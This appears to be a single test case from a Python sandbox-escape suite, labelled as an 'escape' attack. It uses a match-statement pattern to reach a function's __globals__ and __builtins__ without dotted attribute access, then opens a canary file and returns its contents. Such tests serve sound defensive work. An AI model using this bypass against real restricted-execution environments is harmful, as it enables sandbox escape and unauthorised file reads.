# desc: a pattern reads an attribute without a dot
# class: escape
# wins: told
def attack(state):
    match attack:
        case object(__globals__=names):
            found = names["__builtins__"]
            found = found if isinstance(found, dict) else vars(found)
            return "L2:" + found["open"]("@CANARY@").read()
